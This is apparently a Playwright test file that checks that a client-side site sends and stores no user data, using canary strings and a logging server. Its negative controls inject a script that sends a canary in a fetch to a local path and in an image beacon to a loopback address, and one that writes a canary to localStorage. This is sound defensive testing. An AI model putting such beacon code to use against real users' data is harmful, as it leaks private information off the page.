// "All data stays on the client", as a test. The built site is served by a local server that logs
// every request; the whole workflow runs on a file full of canary strings (customer ids, product
// descriptions, countries, emails); the test fails if, after the page has loaded, any request
// leaves the page's origin, is anything but a GET of one of the site's own files, carries a canary
// anywhere (URL, headers, body), or if a canary lands in cookies, localStorage, sessionStorage,
// IndexedDB or the Cache API. Negative controls prove the detector catches a leak: a page script
// that sends a canary (fetch and an image beacon) and one that stores it must both be flagged.
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { BASE_PATH, DIST, ensureBuild, launch, serve } from './support.mjs';

const CANARIES = ['CANARY7Q1D', 'CNRYDESC9X', 'Canarystan', 'canary.z8@example.test'];

/** A transactions file in the UCI layout where every text field carries a canary. */
function canaryCsv() {
  let csv = 'InvoiceNo,StockCode,Description,Quantity,InvoiceDate,UnitPrice,CustomerID,Country,Email\n';
  for (let c = 0; c < 40; c++) {
    for (let o = 0; o < 1 + (c % 5); o++) {
      const day = String(1 + ((c * 7 + o * 3) % 28)).padStart(2, '0');
      const month = String(1 + ((c + o) % 12)).padStart(2, '0');
      csv += `${100000 + c * 10 + o},P${o},"${CANARIES[1]} item ${o}, boxed",${1 + o},2011-${month}-${day} 10:00:00,${(1.5 + c / 7).toFixed(2)},${CANARIES[0]}-${c},${CANARIES[2]},${c}.${CANARIES[3]}\n`;
    }
  }
  return Buffer.from(csv);
}

/** The site's own files, as URL paths: the only thing the page may fetch after it has loaded. */
function ownPaths() {
  const paths = new Set([BASE_PATH, `${BASE_PATH}index.html`]);
  const walk = (dir, prefix) => {
    for (const e of readdirSync(dir, { withFileTypes: true })) {
      if (e.isDirectory()) walk(join(dir, e.name), `${prefix}${e.name}/`);
      else paths.add(`${BASE_PATH}${prefix}${e.name}`);
    }
  };
  walk(DIST, '');
  return paths;
}

/**
 * Problems with the requests seen after `since` (server log and browser log together).
 * @param {{method: string, url: string, headers?: object, body?: string, time: number}[]} requests
 */
function leaks(requests, origin, since, allowed) {
  const problems = [];
  for (const r of requests) {
    if (r.time < since) continue;
    const url = new URL(r.url, origin);
    const text = `${r.url} ${JSON.stringify(r.headers ?? {})} ${r.body ?? ''}`;
    for (const c of CANARIES) if (text.includes(c) || text.includes(encodeURIComponent(c))) problems.push(`canary ${c} in ${r.method} ${r.url}`);
    if (url.protocol === 'data:' || url.protocol === 'blob:') continue;
    if (url.origin !== origin) problems.push(`request off the origin: ${r.method} ${r.url}`);
    else if (r.method !== 'GET') problems.push(`${r.method} request: ${r.url}`);
    else if (url.search) problems.push(`query string: ${r.url}`);
    else if (!allowed.has(url.pathname)) problems.push(`not a file of the site: ${r.url}`);
  }
  return problems;
}

/** Canaries found in the page's storage. @param {import('playwright-core').Page} page */
async function storageLeaks(page, context) {
  const found = await page.evaluate(async (canaries) => {
    const hits = [];
    const scan = (where, text) => canaries.forEach((c) => text.includes(c) && hits.push(`${c} in ${where}`));
    scan('localStorage', JSON.stringify({ ...localStorage }));
    scan('sessionStorage', JSON.stringify({ ...sessionStorage }));
    scan('document.cookie', document.cookie);
    for (const info of (await indexedDB.databases?.()) ?? []) {
      const db = await new Promise((res, rej) => {
        const r = indexedDB.open(info.name);
        r.onsuccess = () => res(r.result);
        r.onerror = () => rej(r.error);
      });
      for (const store of db.objectStoreNames) {
        const all = await new Promise((res) => {
          const q = db.transaction(store).objectStore(store).getAll();
          q.onsuccess = () => res(q.result);
          q.onerror = () => res([]);
        });
        scan(`IndexedDB ${info.name}/${store}`, JSON.stringify(all));
      }
    }
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      for (const req of await cache.keys()) scan(`CacheStorage ${name}`, `${req.url} ${await (await cache.match(req)).text()}`);
    }
    return hits;
  }, CANARIES);
  const cookies = JSON.stringify(await context.cookies());
  for (const c of CANARIES) if (cookies.includes(c)) found.push(`${c} in a cookie`);
  return found;
}

async function main() {
  ensureBuild();
  const serverLog = [];
  const { server, origin, base } = await serve(serverLog);
  const browser = await launch();
  const results = [];
  const record = (name, ok, detail = '') => {
    results.push(ok);
    console.log(`${ok ? 'PASS' : 'FAIL'} ${name}${!ok && detail ? `\n  ${detail}` : ''}`);
  };
  try {
    const allowed = ownPaths();
    const context = await browser.newContext({ acceptDownloads: true });
    const browserLog = [];
    context.on('request', (r) => browserLog.push({ method: r.method(), url: r.url(), headers: r.headers(), body: r.postData() ?? '', time: Date.now() }));
    const page = await context.newPage();
    await page.goto(base, { waitUntil: 'load' });
    const loaded = Date.now();

    // The whole workflow on the canary file: read, every step, every download the page offers.
    await page.setInputFiles('#file-input', { name: 'canary.csv', mimeType: 'text/csv', buffer: canaryCsv() });
    await page.waitForSelector('#segment-table tbody tr', { state: 'attached', timeout: 60000 });
    const steps = await page.$$eval('[id^="step-"]:not([id^="step-note"])', (els) => els.map((e) => e.id));
    for (const id of steps) {
      const button = page.locator(`#${id}`);
      if (await button.isEnabled()) {
        await button.click();
        await page.waitForTimeout(400);
      }
      // The rail's own buttons are steps, not exports ("7 Export" would leave the step being walked).
      for (const b of await page.locator('button:visible:not(.step-button)').all()) {
        const label = ((await b.textContent()) ?? '').toLowerCase();
        if (!/download|export|png/.test(label) || !(await b.isEnabled())) continue;
        const download = page.waitForEvent('download', { timeout: 5000 }).catch(() => null);
        await b.click().catch(() => {});
        await download;
      }
    }
    await page.waitForTimeout(500);
    const problems = [...leaks(serverLog, origin, loaded, allowed), ...leaks(browserLog, origin, loaded, allowed), ...(await storageLeaks(page, context))];
    record(
      `the workflow on a canary file (${steps.length} steps, every export) sends nothing and stores nothing`,
      problems.length === 0,
      problems.slice(0, 5).join('\n  '),
    );
    const customers = Number(((await page.textContent('#info-customers')) ?? '').replace(/[^\d]/g, ''));
    record('the canary file was really analysed (40 customers on the page)', customers === 40, `customers: ${customers}`);

    // Negative controls: the same detector must catch a leak by request and by storage.
    const mark = Date.now();
    await page.evaluate((c) => {
      fetch(`./collect?id=${encodeURIComponent(c)}`).catch(() => {});
      new Image().src = `http://127.0.0.2:9/pixel.gif?${c}`; // another origin (loopback only)
    }, CANARIES[0]);
    await page.waitForTimeout(800);
    const caught = [...leaks(serverLog, origin, mark, allowed), ...leaks(browserLog, origin, mark, allowed)];
    record(
      'negative control: a script sending a canary is caught',
      caught.some((p) => p.includes(CANARIES[0])),
    );
    const offOrigin = leaks([{ method: 'GET', url: 'http://127.0.0.2:9/pixel.gif', time: mark }], origin, mark, allowed);
    record(
      'negative control: a request to another origin is caught',
      offOrigin.some((p) => p.includes('off the origin')),
    );
    await page.evaluate((c) => localStorage.setItem('x', c), CANARIES[3]);
    record(
      'negative control: a canary in localStorage is caught',
      (await storageLeaks(page, context)).some((p) => p.includes('localStorage')),
    );
    await context.close();
  } finally {
    await browser.close();
    server.close();
  }
  const failed = results.filter((ok) => !ok).length;
  console.log(`${results.length - failed} passed, ${failed} failed`);
  process.exitCode = failed ? 1 : 0;
}

main().catch((e) => {
  console.error(e);
  console.log('0 passed, 1 failed');
  process.exitCode = 1;
});
